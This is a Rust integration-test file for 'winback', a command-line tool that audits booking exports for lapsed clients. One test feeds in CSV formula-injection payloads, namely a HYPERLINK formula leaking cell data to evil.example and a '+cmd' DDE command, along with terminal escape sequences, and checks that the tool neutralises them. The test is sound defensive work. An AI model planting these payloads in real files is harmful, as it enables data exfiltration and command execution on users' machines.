//! The `winback` command as a business owner or a script runs it: real files, real exit codes.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn winback(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_winback"))
        .args(args)
        .output()
        .expect("winback runs")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Writes a sample export of `clients` clients as of 2026-11-20 to `path`.
fn sample_at(path: &Path, clients: u32, seed: u64) {
    let output = winback(&[
        "sample",
        "--clients",
        &clients.to_string(),
        "--seed",
        &seed.to_string(),
        "--as-of",
        "2026-11-20",
        "--out",
        path.to_str().unwrap(),
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
}

/// The audit's parallel reader, switched on from 1 MiB (in parts of 1 MiB) instead of 16, so
/// the tests that compare a parallel read with a single one need files of a megabyte or two.
const PARALLEL_FROM: u64 = 1 << 20;
const PARALLEL: [&str; 4] = [
    "--parallel-from-bytes",
    "1048576",
    "--part-bytes",
    "1048576",
];

/// Audits an export as of 2026-11-20 read as a file (in parallel from [`PARALLEL_FROM`]),
/// with `file_args`, and read as a stream from standard input (in one piece), with
/// `stream_args`; both must succeed.
fn audit_as_file_and_as_stream(
    file: &Path,
    file_args: &[&str],
    stream_args: &[&str],
) -> (Output, Output) {
    let mut args = vec!["audit", file.to_str().unwrap(), "--as-of", "2026-11-20"];
    args.extend(PARALLEL);
    args.extend(file_args);
    let from_file = winback(&args);
    let from_stream = Command::new(env!("CARGO_BIN_EXE_winback"))
        .args(["audit", "-", "--as-of", "2026-11-20"])
        .args(stream_args)
        .stdin(std::fs::File::open(file).unwrap())
        .output()
        .unwrap();
    assert!(from_file.status.success(), "{}", stderr(&from_file));
    assert!(from_stream.status.success(), "{}", stderr(&from_stream));
    (from_file, from_stream)
}

/// The JSON audit of a file read as a file and as a stream, with the source names blanked:
/// they should be equal.
fn audits_as_file_and_as_stream(file: &Path) -> (serde_json::Value, serde_json::Value) {
    let json = ["--format", "json"];
    let (from_file, from_stream) = audit_as_file_and_as_stream(file, &json, &json);
    let mut a: serde_json::Value = serde_json::from_slice(&from_file.stdout).unwrap();
    let mut b: serde_json::Value = serde_json::from_slice(&from_stream.stdout).unwrap();
    a["source"] = serde_json::Value::Null;
    b["source"] = serde_json::Value::Null;
    (a, b)
}

/// Runs winback, which must succeed, and reads what it printed as JSON.
fn json_of(args: &[&str]) -> serde_json::Value {
    let output = winback(args);
    assert!(output.status.success(), "{}", stderr(&output));
    serde_json::from_slice(&output.stdout).expect("valid JSON")
}

/// A sample export of `clients` clients as of 2026-11-20, in a fresh folder.
fn sample(dir: &Path, clients: u32) -> PathBuf {
    let path = dir.join("bookings.csv");
    sample_at(&path, clients, 7);
    path
}

fn write(dir: &Path, name: &str, contents: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, contents).unwrap();
    path
}

fn assert_no_panic(output: &Output) {
    let err = stderr(output);
    assert!(
        !err.contains("panicked") && !err.contains("RUST_BACKTRACE"),
        "{err}"
    );
}

#[test]
fn auditing_a_sample_business_prints_stages_tiers_and_revenue_at_stake() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path(), 400);
    let output = winback(&["audit", file.to_str().unwrap(), "--as-of", "2026-11-20"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    for expected in [
        "Clients per category and stage",
        "at-risk",
        "lapsed",
        "dormant",
        "Value tiers",
        "Revenue at stake:",
        "Most valuable overdue clients",
        "hair",
        "colour",
    ] {
        assert!(text.contains(expected), "missing {expected:?} in:\n{text}");
    }
}

#[test]
fn json_output_is_one_document_with_the_same_figures() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path(), 300);
    let table = stdout(&winback(&[
        "audit",
        file.to_str().unwrap(),
        "--as-of",
        "2026-11-20",
    ]));
    let json = json_of(&[
        "audit",
        file.to_str().unwrap(),
        "--as-of",
        "2026-11-20",
        "--format",
        "json",
    ]);
    for key in [
        "as_of",
        "horizon_days",
        "currency",
        "lines",
        "clients",
        "stages",
        "categories",
        "tiers",
        "revenue_at_stake",
        "top_overdue",
        "input",
    ] {
        assert!(json.get(key).is_some(), "no {key}");
    }
    let lapsed = json["stages"]["lapsed"].as_u64().unwrap();
    assert!(
        table.contains(&format!("┆ {lapsed:>6} ┆"))
            || lapsed == 0
            || table.contains(&lapsed.to_string())
    );
    assert_eq!(json["as_of"], "2026-11-20");
    assert_eq!(json["input"]["bad_rows"], 0);
}

#[test]
fn scores_file_has_the_fixed_header_and_a_row_per_client_and_category() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path(), 200);
    let scores = dir.path().join("scores.csv");
    let json = json_of(&[
        "audit",
        file.to_str().unwrap(),
        "--as-of",
        "2026-11-20",
        "--horizon",
        "60",
        "--scores",
        scores.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let pairs: u64 = json["categories"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["clients"].as_u64().unwrap())
        .sum();
    let text = std::fs::read_to_string(&scores).unwrap();
    let mut lines = text.lines();
    assert_eq!(
        lines.next().unwrap(),
        "client_id,service_category,stage,visits,last_visit,days_since_last,interval_days,interval_spread_days,overdue_ratio,lapse_score,rfm_tier"
    );
    let rows: Vec<Vec<&str>> = lines.map(|l| l.split(',').collect()).collect();
    assert_eq!(rows.len() as u64, pairs);
    for row in &rows {
        let score: f64 = row[9].parse().unwrap();
        assert!((0.0..=1.0).contains(&score), "{row:?}");
        assert!(["active", "due", "at-risk", "lapsed", "dormant", "lost"].contains(&row[2]));
        assert!(["high", "medium", "low"].contains(&row[10]));
        assert!(row[3].parse::<u32>().unwrap() >= 1);
    }
}

#[test]
fn scores_rows_with_commas_or_quotes_in_an_id_are_quoted_as_csv() {
    let dir = tempfile::tempdir().unwrap();
    let export = write(
        dir.path(),
        "odd.csv",
        b"client_id,occurred_at,service_category,amount\n\
          \"Lopez, Ana\",2026-09-01,hair,45\n\
          \"Lopez, Ana\",2026-10-01,hair,45\n\
          \"Bo \"\"the cut\"\"\",2026-10-05,\"hair, long\",60\n\
          plain-1,2026-10-10,hair,45\n",
    );
    let scores = dir.path().join("scores.csv");
    let output = winback(&[
        "audit",
        export.to_str().unwrap(),
        "--as-of",
        "2026-11-20",
        "--scores",
        scores.to_str().unwrap(),
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let mut reader = csv::Reader::from_path(&scores).unwrap();
    let mut rows: Vec<(String, String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            assert_eq!(r.len(), 11, "{r:?}");
            (r[0].to_owned(), r[1].to_owned(), r[3].to_owned())
        })
        .collect();
    rows.sort();
    assert_eq!(
        rows,
        [
            (
                "Bo \"the cut\"".to_owned(),
                "hair, long".to_owned(),
                "1".to_owned()
            ),
            ("Lopez, Ana".to_owned(), "hair".to_owned(), "2".to_owned()),
            ("plain-1".to_owned(), "hair".to_owned(), "1".to_owned()),
        ]
    );
}

#[test]
fn ids_a_spreadsheet_would_run_are_written_as_text_and_names_cannot_drive_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let mut rows =
        String::from("client_id,occurred_at,service_category,status,amount,client_name\n");
    for (id, name) in [
        (
            "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
            "\"Eve \x1b]0;pwned\x07\x1b[31mRED\x1b[0m \u{9b}31m\"",
        ),
        ("+cmd|' /C calc'!A0", "Mal"),
        ("@SUM(1+1)", "At"),
        ("-2+3", "Minus"),
        ("c-ok", "Ok"),
    ] {
        for day in [
            "2026-01-05",
            "2026-02-02",
            "2026-03-02",
            "2026-03-30",
            "2026-04-27",
        ] {
            rows.push_str(&format!("{id},{day},hair,completed,45,{name}\n"));
        }
    }
    let export = write(dir.path(), "inject.csv", rows.as_bytes());
    let scores = dir.path().join("scores.csv");
    let output = winback(&[
        "audit",
        export.to_str().unwrap(),
        "--as-of",
        "2026-06-15",
        "--scores",
        scores.to_str().unwrap(),
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let mut ids: Vec<String> = csv::Reader::from_path(&scores)
        .unwrap()
        .records()
        .map(|r| r.unwrap()[0].to_owned())
        .collect();
    ids.sort();
    assert_eq!(
        ids,
        [
            "'+cmd|' /C calc'!A0",
            "'-2+3",
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "'@SUM(1+1)",
            "c-ok"
        ]
    );
    let table = stdout(&output);
    assert!(table.contains("Eve"), "{table}");
    assert!(
        !table.contains('\u{1b}') && !table.contains('\u{7}') && !table.contains('\u{9b}'),
        "{table:?}"
    );
}

#[test]
fn a_client_is_explained_per_category() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "b.csv",
        b"client_id,occurred_at,service_category,amount\nc1,2026-01-05,Hair,50\nc1,2026-02-02,Hair,50\nc1,2026-03-02,Hair,50\nc1,2026-03-30,Hair,50\nc1,2026-03-30,Nails,30\n",
    );
    let output = winback(&[
        "audit",
        file.to_str().unwrap(),
        "--as-of",
        "2026-05-11",
        "--client",
        "c1",
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.contains("hair: lapsed, usually every 28 days"),
        "{text}"
    );
    assert!(text.contains("nails:"), "{text}");
    let missing = winback(&[
        "audit",
        file.to_str().unwrap(),
        "--as-of",
        "2026-05-11",
        "--client",
        "nobody",
    ]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(stderr(&missing).contains("no client \"nobody\""));
}

#[test]
fn a_file_that_is_not_a_bookings_export_fails_with_exit_code_2_and_says_how_to_map_it() {
    let dir = tempfile::tempdir().unwrap();
    let cases: [(&str, &[u8], &str); 4] = [
        ("people.csv", b"name,age\nAda,36\n", "--map"),
        ("empty.csv", b"", "empty"),
        ("photo.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "not text"),
        ("header-only.csv", b"Who,When\n", "client_id"),
    ];
    for (name, contents, hint) in cases {
        let file = write(dir.path(), name, contents);
        let output = winback(&["audit", file.to_str().unwrap()]);
        assert_eq!(output.status.code(), Some(2), "{name}: {}", stderr(&output));
        let err = stderr(&output);
        assert!(err.starts_with("error: "), "{name}: {err}");
        assert!(err.contains(hint), "{name}: {err}");
        assert_eq!(
            err.lines().count(),
            1,
            "{name}: one clear message, got {err}"
        );
        assert_no_panic(&output);
    }
    let missing = winback(&["audit", dir.path().join("nope.csv").to_str().unwrap()]);
    assert_eq!(missing.status.code(), Some(2));
    assert_no_panic(&missing);
}

#[test]
fn bad_rows_are_counted_and_shown_with_line_and_column_without_stopping_the_audit() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "b.csv",
        b"Customer,Date,Category,Price,Status\nc1,2026-01-05,Hair,50,done\nc1,yesterday,Hair,50,done\nc2,2026-02-01,Hair,-5,done\nc3,2026-02-01,Hair,20,maybe\nc2,2026-03-01,Hair,40,done\n",
    );
    let output = winback(&["audit", file.to_str().unwrap(), "--as-of", "2026-04-01"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(text.contains("3 bad rows skipped"), "{text}");
    assert!(
        text.contains("line 3, occurred_at: \"yesterday\" is not a date"),
        "{text}"
    );
    assert!(text.contains("line 4, amount: -5 is negative"), "{text}");
    assert!(
        text.contains("line 5, status: \"maybe\" is not a booking status"),
        "{text}"
    );
    assert!(text.contains("Clients: 2"), "{text}");
}

#[test]
fn an_explicit_mapping_and_a_date_layout_read_an_unusual_export() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(
        dir.path(),
        "b.csv",
        b"Ref;Day;Kind;Paid\nA1;05/01/2026;Hair;50,00\nA1;02/02/2026;Hair;50,00\n",
    );
    let refused = winback(&["audit", file.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        stderr(&refused).contains("no column for client_id and occurred_at"),
        "{}",
        stderr(&refused)
    );
    let json = json_of(&[
        "audit",
        file.to_str().unwrap(),
        "--map",
        "client_id=Ref",
        "--map",
        "occurred_at=Day",
        "--date-format",
        "%d/%m/%Y",
        "--as-of",
        "2026-03-01",
        "--format",
        "json",
    ]);
    assert_eq!(json["lines"]["visits"], 2);
    assert_eq!(json["clients"]["total"], 1);
}

#[test]
fn a_bad_config_is_refused_with_the_field_named() {
    let dir = tempfile::tempdir().unwrap();
    let file = sample(dir.path(), 20);
    let config = write(dir.path(), "winback.toml", b"[stages]\nlapsed = 1.1\n");
    let output = winback(&[
        "audit",
        file.to_str().unwrap(),
        "--config",
        config.to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("stages.lapsed"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn the_lapse_score_beats_recency_on_held_out_history() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.csv");
    sample_at(&path, 3000, 11);
    let result = json_of(&[
        "backtest",
        path.to_str().unwrap(),
        "--cutoff",
        "2026-06-01",
        "--horizon",
        "90",
        "--format",
        "json",
    ]);
    let number = |key: &str| result[key].as_f64().unwrap();
    let (score, recency) = (number("lapse_score_auc"), number("recency_auc"));
    assert!(
        score > recency,
        "lapse score AUC {score} should beat recency {recency}"
    );
    let (recent_score, recent_recency) = (
        number("recent_lapse_score_auc"),
        number("recent_recency_auc"),
    );
    assert!(
        recent_score > recent_recency + 0.02,
        "{recent_score} vs {recent_recency}"
    );
    // Calibrated: the mean score is close to the share that did not come back.
    let gap = (number("mean_lapse_score") - number("observed_no_return_rate")).abs();
    assert!(gap < 0.05, "calibration gap {gap}");
}

#[test]
fn the_same_export_gives_the_same_audit_whether_read_by_one_thread_or_several() {
    // Large enough to be read in parallel; the result must not depend on it.
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.csv");
    sample_at(&big, 12_000, 3);
    assert!(std::fs::metadata(&big).unwrap().len() > PARALLEL_FROM);
    let (from_file, from_stream) = audits_as_file_and_as_stream(&big);
    assert_eq!(from_file, from_stream);

    let (from_file, from_stream) = scores_as_file_and_as_stream(&big);
    assert!(from_file.len() > 12_000);
    assert_same_lines(&from_file, &from_stream);
}

/// The scores file of an export read as a file (in parallel when large) and as a stream (in
/// one piece), its rows sorted: a parallel read writes them in another order.
fn scores_as_file_and_as_stream(file: &Path) -> (Vec<String>, Vec<String>) {
    let dir = tempfile::tempdir().unwrap();
    let (scores_file, scores_stream) = (dir.path().join("a.csv"), dir.path().join("b.csv"));
    audit_as_file_and_as_stream(
        file,
        &["--scores", scores_file.to_str().unwrap()],
        &["--scores", scores_stream.to_str().unwrap()],
    );
    let sorted_lines = |path: &Path| {
        let text = std::fs::read_to_string(path).unwrap();
        let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
        lines.sort();
        lines
    };
    (sorted_lines(&scores_file), sorted_lines(&scores_stream))
}

fn assert_same_lines(a: &[String], b: &[String]) {
    let differing: Vec<_> = a.iter().zip(b).filter(|(x, y)| x != y).take(3).collect();
    assert!(
        differing.is_empty(),
        "{} differ, first: {differing:?}",
        a.iter().zip(b).filter(|(x, y)| x != y).count()
    );
    assert_eq!(a.len(), b.len());
}

#[test]
fn clients_alike_in_all_but_id_get_the_same_tiers_whether_read_by_one_thread_or_several() {
    // 14,000 clients with one identical visit each: only their ids tell them apart, so the
    // tiers' boundaries fall among equals.
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::from("client_id,client_name,occurred_at,service_category,amount\n");
    for i in 0..14_000 {
        text.push_str(&format!(
            "c{i:06},A client whose long name makes the export large enough to read in parallel,2026-06-01,Hair,50.00\n"
        ));
    }
    let file = write(dir.path(), "alike.csv", text.as_bytes());
    assert!(std::fs::metadata(&file).unwrap().len() > PARALLEL_FROM);
    let (from_file, from_stream) = scores_as_file_and_as_stream(&file);
    assert_eq!(from_file.len(), 14_001);
    assert_same_lines(&from_file, &from_stream);
    let high = from_file.iter().filter(|l| l.ends_with(",high")).count();
    assert_eq!(high, 2_800);
}

#[test]
fn sample_writes_the_same_file_for_the_same_seed() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a.csv"), dir.path().join("b.csv"));
    sample_at(&a, 50, 9);
    sample_at(&b, 50, 9);
    assert_eq!(std::fs::read(a).unwrap(), std::fs::read(b).unwrap());
}

/// A large export with bad rows in both halves and a quoted value spanning many lines across
/// the middle, where a parallel read would cut the file.
fn awkward_large_export(dir: &Path) -> PathBuf {
    let mut text =
        String::from("client_id,client_name,occurred_at,status,service_category,amount\n");
    let row = |i: usize, text: &mut String| {
        let day = 1 + i % 28;
        text.push_str(&format!(
            "c{},Client {},2026-0{}-{:02},completed,{},{}.00\n",
            i % 40_000,
            i,
            1 + i % 9,
            day,
            ["Hair", "Nails"][i % 2],
            20 + i % 50
        ));
    };
    let mut i = 0;
    while text.len() < 640 << 10 {
        row(i, &mut text);
        i += 1;
    }
    text.push_str("c1,2026-13-40,not a date,completed,Hair,10\n");
    // A client name of about 120 KB holding line breaks and escaped quotes: the middle of the
    // file, where a read in two parts would cut it.
    let long_name: String = (0..5_000)
        .map(|k| format!("line {k} \"\"quoted\"\"\n"))
        .collect();
    text.push_str(&format!(
        "c7,\"{long_name}\",2026-09-30,completed,Hair,99.00\n"
    ));
    // As many rows again, so the middle falls inside the long value.
    while text.len() < 1_340 << 10 {
        row(i, &mut text);
        i += 1;
    }
    text.push_str("c2,Someone,2026-03-01,completed,Hair,-4\n");
    write(dir, "awkward.csv", text.as_bytes())
}

#[test]
fn a_parallel_read_that_would_cut_a_quoted_value_falls_back_and_loses_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let file = awkward_large_export(dir.path());
    let (from_file, from_stream) = audits_as_file_and_as_stream(&file);
    assert_eq!(from_file, from_stream);
    assert_eq!(from_file["input"]["bad_rows"], 2);
    let text = std::fs::read_to_string(&file).unwrap();
    let first_bad = text
        .lines()
        .position(|l| l.starts_with("c1,2026-13-40"))
        .unwrap() as u64
        + 1;
    assert_eq!(
        from_file["input"]["first_bad_rows"][0]["line"].as_u64(),
        Some(first_bad)
    );
}

#[test]
fn bad_rows_keep_their_line_numbers_when_a_large_file_is_read_in_parallel() {
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::from("client_id,occurred_at,service_category,amount\n");
    let mut i = 0;
    let mut bad_lines = Vec::new();
    while text.len() < 1_536 << 10 {
        if i % 3_000 == 2_999 {
            text.push_str(&format!("c{},someday,Hair,10\n", i % 1000));
            bad_lines.push(i as u64 + 2);
        } else {
            text.push_str(&format!(
                "c{},2026-0{}-15,Hair,{}\n",
                i % 30_000,
                1 + i % 9,
                10 + i % 40
            ));
        }
        i += 1;
    }
    let file = write(dir.path(), "big.csv", text.as_bytes());
    let mut args = vec![
        "audit",
        file.to_str().unwrap(),
        "--as-of",
        "2026-11-20",
        "--format",
        "json",
    ];
    args.extend(PARALLEL);
    let json = json_of(&args);
    assert_eq!(
        json["input"]["bad_rows"].as_u64().unwrap(),
        bad_lines.len() as u64
    );
    let shown: Vec<u64> = json["input"]["first_bad_rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["line"].as_u64().unwrap())
        .collect();
    assert_eq!(shown, bad_lines[..shown.len()].to_vec());
    assert_eq!(json["input"]["rows"].as_u64().unwrap(), i as u64);
}
